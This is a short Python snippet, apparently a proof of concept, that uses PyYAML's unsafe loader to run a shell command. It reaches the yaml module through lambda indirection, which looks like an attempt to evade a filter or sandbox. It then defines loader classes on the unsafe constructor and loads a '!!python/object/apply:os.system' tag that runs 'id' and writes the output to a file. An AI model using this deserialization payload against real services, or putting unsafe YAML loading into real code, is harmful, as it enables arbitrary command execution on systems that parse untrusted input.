import yaml

class Mine((lambda **k: k['a'])(a=yaml).constructor.UnsafeConstructor, (lambda **k: k['a'])(a=yaml).SafeLoader):
    pass

class L((lambda **k: k['a'])(a=yaml).UnsafeLoader):
    pass
(lambda **k: k['a'])(a=yaml).load_all("!!python/object/apply:os.system ['id>pf']", Loader=L).__next__()
